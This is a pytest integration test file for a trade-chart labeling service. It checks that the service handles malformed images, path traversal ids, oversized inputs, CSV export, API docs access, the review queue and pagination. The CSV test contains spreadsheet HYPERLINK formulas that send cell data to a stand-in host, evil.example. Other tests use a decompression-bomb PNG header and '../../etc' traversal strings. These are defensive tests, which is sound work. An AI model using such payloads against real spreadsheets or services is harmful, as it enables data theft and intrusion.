"""Issue 13, from outside: bad charts, bad paths and ids, CSV injection, API docs, review
queue, pages. The real service on real NATS JetStream and PostgreSQL (no mocks)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
from nats.errors import TimeoutError as NatsTimeoutError

from hindsight.common.broker import DLQ_STREAM
from hindsight.common.events import JsonCreated, PngCreated

pytestmark = pytest.mark.integration

PASSWORD = "s3cret-password"
BOMB_HEADER = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x01\x86\xa0\x00\x01\x86\xa0\x08\x02\x00\x00\x00"
    b"\x00\x00\x00\x00"
)  # 100000 x 100000 RGB declared; the file itself is tiny


async def _dead_letters(harness: Any, subject: str, *, expect: int) -> list[tuple[str, str]]:
    """(trade_id, Hindsight-Error header) of each dead-lettered event, in order."""

    async def fetch() -> list[tuple[str, str]]:
        js = harness.nats.jetstream()
        sub = await js.pull_subscribe(f"dlq.{subject}", stream=DLQ_STREAM)
        found: list[tuple[str, str]] = []
        try:
            while True:
                try:
                    msgs = await sub.fetch(batch=100, timeout=0.5)
                except (NatsTimeoutError, TimeoutError):
                    break
                for msg in msgs:
                    body = json.loads(msg.data)
                    found.append((body["trade_id"], msg.headers["Hindsight-Error"]))
                    await msg.ack()
        finally:
            await sub.unsubscribe()
        return found

    seen: list[tuple[str, str]] = []

    async def probe() -> bool:
        seen.extend(await fetch())
        return len(seen) >= expect

    await harness.wait_for(probe, what=f"{expect} dead letters on dlq.{subject}")
    return seen


def _png_event(path: str, trade_id: str) -> PngCreated:
    return PngCreated.create(
        source="outside", file_path=path, run_id="run-x", trade_id=trade_id, image_type="original"
    )


async def test_bad_charts_are_dead_lettered_naming_file_path(
    labeling_factory: Callable[..., Awaitable[Any]],
) -> None:
    # Limits from the settings: the test chart (640x360, a few kB) is within the defaults.
    harness = await labeling_factory(image_max_bytes=2_000_000)
    good = await harness.add_trade(1)
    images: Path = harness.images
    (images / "text.png").write_text("just text, not a chart\n")
    (images / "empty.png").write_bytes(b"")
    (images / "photo.png").write_bytes(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01" + b"\x00" * 500)
    (images / "bomb.png").write_bytes(BOMB_HEADER + b"\x00" * 100)
    (images / "huge.png").write_bytes((images / f"{good}_original.png").read_bytes())
    with open(images / "huge.png", "ab") as fh:
        fh.truncate(2_000_001)
    long_path = str(images / ("a" * 200_000))
    cases = {
        str(images / "text.png"): "bad signature",
        str(images / "empty.png"): "empty file",
        str(images / "photo.png"): "bad signature",
        str(images / "bomb.png"): "10000000000 pixels, over the limit of 40000000",
        str(images / "huge.png"): "2000001 bytes, over the limit of 2000000",
        str(images / "missing.png"): "cannot be read",
        long_path: "4096",  # "over the limit of 4096" here, or the event model's bound
    }
    for i, path in enumerate(cases):
        if path == long_path:
            # As a plain publisher sends it: raw JSON (the event model may refuse to build
            # it) and no Nats-Msg-Id (it would pass the 64 kB header limit).
            body = json.loads(_png_event(str(images / "x.png"), f"BAD{i}").to_json_bytes())
            body["file_path"] = path
            await harness.nats.jetstream().publish("png.created", json.dumps(body).encode())
        else:
            await harness.publish(_png_event(path, f"BAD{i}"))
    # A trade id that could never get its label file is bad input too.
    # (copies of a good chart: the same file_path would be dropped as a duplicate)
    for name, trade_id in (("copy1.png", "../../etc"), ("copy2.png", "T" * 201)):
        (images / name).write_bytes((images / f"{good}_original.png").read_bytes())
        await harness.publish(_png_event(str(images / name), trade_id))
    await harness.wait_items(1)
    dead = dict(await _dead_letters(harness, "png.created", expect=len(cases) + 2))
    for i, (path, reason) in enumerate(cases.items()):
        assert "file_path: " in dead[f"BAD{i}"], dead[f"BAD{i}"]
        assert reason in dead[f"BAD{i}"], (path[:80], dead[f"BAD{i}"])
    assert len(dead[f"BAD{len(cases) - 1}"]) < 1000  # the error does not echo the whole path
    assert dead["../../etc"].startswith("trade_id: ")
    assert dead["T" * 201].startswith("trade_id: ")
    ids = await harness.service.storage.pool.fetch("SELECT trade_id FROM items")
    assert [r["trade_id"] for r in ids] == [good]


async def test_pixel_limit_comes_from_the_settings(
    labeling_factory: Callable[..., Awaitable[Any]],
) -> None:
    harness = await labeling_factory(image_max_pixels=640 * 360 - 1)
    await harness.add_trade(2, images=True, suggestion=None, closed=False)
    dead = await _dead_letters(harness, "png.created", expect=2)
    assert all("230400 pixels, over the limit of 230399" in e for _, e in dead), dead


async def test_charts_are_checked_again_when_served_and_bad_ids_are_4xx(harness: Any) -> None:
    trade = await harness.add_trade(3)
    await harness.wait_items(1)
    await harness.add_labeler("alice", PASSWORD)
    # A row stored before these checks existed: a 100 kB path (File name too long).
    await harness.service.storage.upsert_png(
        trade_id="OLDROW",
        image_type="original",
        file_path=str(harness.images / ("b" * 100_000)),
        run_id="run-old",
        symbol=None,
        timeframe=None,
        setup_id=None,
        occurred_at=__import__("datetime").datetime.now(__import__("datetime").UTC),
    )
    url = harness.base_url
    async with httpx.AsyncClient(timeout=10) as client:
        csrf = await harness.login(client, "alice", PASSWORD)
        ok = await client.get(f"{url}/images/{trade}/original")
        assert ok.status_code == 200 and ok.headers["content-type"] == "image/png"
        assert ok.content.startswith(b"\x89PNG")
        # The file is replaced by text after it was accepted: never served as a PNG.
        (harness.images / f"{trade}_annotated.png").write_text("<html>not a chart</html>")
        swapped = await client.get(f"{url}/images/{trade}/annotated")
        assert swapped.status_code == 404, swapped.text
        assert "bad signature" in swapped.json()["message"]
        old = await client.get(f"{url}/images/OLDROW/original")
        assert old.status_code == 404, old.text
        long_id = "T" * 5000
        for path in (
            f"/api/items/{long_id}",
            f"/api/items/{long_id}/similar",
            f"/images/{long_id}/original",
            "/api/items/..%2F..%2Fetc",
        ):
            response = await client.get(f"{url}{path}")
            assert response.status_code == 404, (path[:40], response.status_code)
        huge = await client.get(f"{url}/api/items/{'T' * 20_000}")
        assert huge.status_code == 414
        huge_query = await client.get(f"{url}/api/items?symbol={'S' * 20_000}")
        assert huge_query.status_code == 414
        bulk = await client.post(
            f"{url}/api/labels/bulk",
            json={"trade_ids": [trade, "T" * 5000], "label": "approved"},
            headers={"X-CSRF-Token": csrf},
        )
        assert bulk.status_code == 404
    assert harness.label_files() == {}


async def test_csv_export_neutralises_formulas(harness: Any) -> None:
    trade = await harness.add_trade(4, run_id='=HYPERLINK("http://evil.example","x")')
    await harness.wait_items(1)
    await harness.add_labeler("alice", PASSWORD)
    comment = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    async with httpx.AsyncClient(timeout=10) as client:
        csrf = await harness.login(client, "alice", PASSWORD)
        saved = await client.post(
            f"{harness.base_url}/api/labels",
            json={"trade_id": trade, "label": "approved", "user_comment": comment},
            headers={"X-CSRF-Token": csrf},
        )
        assert saved.status_code == 200, saved.text
        text = (await client.get(f"{harness.base_url}/api/export.csv")).text
        jsonl = (await client.get(f"{harness.base_url}/api/export.jsonl")).text
    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["user_comment"] == "'" + comment
    assert row["run_id"] == '\'=HYPERLINK("http://evil.example","x")'
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert json.loads(jsonl)["user_comment"] == comment  # JSON is data, kept as given


async def test_api_docs_need_a_session_and_health_stays_open(harness: Any) -> None:
    await harness.add_labeler("alice", PASSWORD)
    url = harness.base_url
    async with httpx.AsyncClient(timeout=10) as anon:
        assert (await anon.get(f"{url}/openapi.json")).status_code == 401
        assert (await anon.get(f"{url}/docs")).status_code == 404
        assert (await anon.get(f"{url}/redoc")).status_code == 404
        assert (await anon.get(f"{url}/docs/oauth2-redirect")).status_code == 404
        assert (await anon.get(f"{url}/healthz")).status_code == 200
        assert (await anon.get(f"{url}/readyz")).status_code == 200
        assert (await anon.get(f"{url}/metrics")).status_code == 200
    async with httpx.AsyncClient(timeout=10) as client:
        await harness.login(client, "alice", PASSWORD)
        spec = await client.get(f"{url}/openapi.json")
        assert spec.status_code == 200
        assert "/api/items" in spec.json()["paths"]
        assert "/openapi.json" not in spec.json()["paths"]


async def test_review_queue_holds_disagreements(harness: Any) -> None:
    disagree = await harness.add_trade(10, suggestion="approved")
    review = await harness.add_trade(11, suggestion="approved")
    agree = await harness.add_trade(12, suggestion="approved")
    no_suggestion = await harness.add_trade(13, suggestion=None)
    await harness.wait_items(3)
    await harness.wait_items(4, complete=False)
    await harness.add_labeler("alice", PASSWORD)
    url = harness.base_url
    async with httpx.AsyncClient(timeout=10) as client:
        headers = {"X-CSRF-Token": await harness.login(client, "alice", PASSWORD)}
        for trade, label in (
            (disagree, "rejected"),
            (review, "review"),
            (agree, "approved"),
            (no_suggestion, "rejected"),
        ):
            response = await client.post(
                f"{url}/api/labels", json={"trade_id": trade, "label": label}, headers=headers
            )
            assert response.status_code == 200, response.text
        queue = (await client.get(f"{url}/api/items?status=review")).json()
        assert {i["trade_id"] for i in queue["items"]} == {disagree, review}
        assert queue["counts"]["review"] == 2
        flagged = {i["trade_id"]: i["in_review"] for i in queue["items"]}
        assert flagged == {disagree: True, review: True}
        page = (await client.get(f"{url}/?status=review")).text
        assert disagree in page and agree not in page
        metrics = (await client.get(f"{url}/metrics")).text
    assert 'hindsight_labeling_queue_items{status="review"} 2.0' in metrics


async def test_pages_reach_every_trade(harness: Any) -> None:
    trades = [await harness.add_trade(i, suggestion="approved") for i in range(20, 27)]
    # Two trades with no time at all (a suggestion only): they sort last.
    for trade_id in ("TZNULL1", "TZNULL0"):
        await harness.publish(
            JsonCreated.create(
                source="llm-adapter",
                doc_type="llm_suggestion",
                payload={"trade_id": trade_id, "label": "review"},
                run_id="run-1",
                trade_id=trade_id,
            )
        )
    await harness.wait_items(len(trades))
    await harness.wait_items(len(trades) + 2, complete=False)
    await harness.add_labeler("alice", PASSWORD)
    url = harness.base_url
    everything = trades + ["TZNULL0", "TZNULL1"]
    async with httpx.AsyncClient(timeout=10) as client:
        headers = {"X-CSRF-Token": await harness.login(client, "alice", PASSWORD)}

        async def get(query: str) -> dict[str, Any]:
            response = await client.get(f"{url}/api/items?{query}")
            assert response.status_code == 200, response.text
            return dict(response.json())

        # Forward by "next", then back by "prev": every trade once, in order.
        pages = [await get("size=2")]
        while pages[-1]["next"]:
            pages.append(await get(f"size=2&after={pages[-1]['next']}"))
        assert [i["trade_id"] for p in pages for i in p["items"]] == everything
        assert [p["offset"] for p in pages] == [0, 2, 4, 6, 8]
        assert all(p["total"] == 9 and p["size"] == 2 for p in pages)
        assert pages[0]["prev"] is None and pages[-1]["next"] is None
        back = [pages[-1]]
        while back[-1]["prev"]:
            back.append(await get(f"size=2&before={back[-1]['prev']}"))
        assert [i["trade_id"] for p in reversed(back) for i in p["items"]] == everything
        # Labeling a page out of the "unlabeled" filter does not make the next page skip.
        first = await get("size=3&status=unlabeled")
        for item in first["items"]:
            await client.post(
                f"{url}/api/labels",
                json={"trade_id": item["trade_id"], "label": "approved"},
                headers=headers,
            )
        second = await get(f"size=3&status=unlabeled&after={first['next']}")
        assert [i["trade_id"] for i in second["items"]] == trades[3:6]
        assert second["total"] == 6
        assert (await client.get(f"{url}/api/items?after=garbage")).status_code == 422
        assert (await client.get(f"{url}/api/items?size=501")).status_code == 422
        # The page: position, total and links that keep the filters.
        page = (await client.get(f"{url}/?size=4&symbol=")).text
        assert "1–4 of 9" in page and 'id="page-next"' in page and 'id="page-prev"' not in page
        next_url = page.split('id="page-next" rel="next" href="', 1)[1].split('"', 1)[0]
        page2 = (await client.get(f"{url}{next_url.replace('&amp;', '&')}")).text
        assert "5–8 of 9" in page2 and 'id="page-prev"' in page2
        assert trades[4] in page2 and trades[0] not in page2
